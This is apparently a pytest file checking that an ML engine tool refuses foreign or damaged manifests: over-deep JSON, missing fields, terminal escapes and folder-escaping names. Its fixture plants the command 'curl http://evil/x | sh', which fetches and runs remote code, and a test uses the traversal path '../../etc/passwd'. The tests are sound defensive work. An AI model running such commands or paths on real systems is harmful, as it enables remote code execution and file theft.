"""Manifests of engines from elsewhere: damaged, nested deeply, and with commands that are not ours."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

pytest.importorskip("onnx")

from edge_ssd.model_files.manifest import EngineFile, manifest_path
from tests.hostile.command_line import assert_refused, edge_ssd
from tests.model_files.test_manifest import MANIFEST
from tests.specs import example_spec


@pytest.fixture
def engine(tmp_path):
    path = tmp_path / "a.engine"
    path.write_bytes(b"plan")
    foreign = replace(MANIFEST, command="curl http://evil/x | sh\x1b]0;title\x07", gpu_name="\x1b[2J")
    EngineFile(example_spec(), foreign).save(path)
    return path


def test_foreign_command_is_never_shown(engine):
    ended = edge_ssd("build", engine.name, cwd=engine.parent)
    assert_refused(ended, "Begin with the model: edge-ssd build ssd300.onnx --precision fp16 --batch 1 4 8")
    shown = ended.err
    ended = edge_ssd("inspect", engine.name, cwd=engine.parent)
    assert ended.code == 0
    assert "edge-ssd build ssd300.onnx --precision fp16" in ended.out
    for text in (shown, ended.out, ended.err):
        assert "curl" not in text
        assert "\x1b" not in text


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[" * 2500 + "]" * 2500, "a.engine.json: not valid JSON: nested too deeply"),
        ('{"format": "edge_ssd-engine/1", "spec": 1' + "0" * 400 + "}", "a.engine.json: spec: missing"),
        ("[]", "a.engine.json: format: expected"),
    ],
)
def test_damaged_manifest_is_named(engine, text, said):
    manifest_path(engine).write_text(text)
    assert_refused(edge_ssd("inspect", engine.name, cwd=engine.parent), said)


def test_names_that_leave_the_folder_are_refused(engine):
    content = json.loads(manifest_path(engine).read_text())
    content["manifest"]["onnx"] = "../../etc/passwd"
    manifest_path(engine).write_text(json.dumps(content))
    said = 'a.engine.json: manifest.onnx: expected the name of a file, got "../../etc/passwd"'
    assert_refused(edge_ssd("inspect", engine.name, cwd=engine.parent), said)
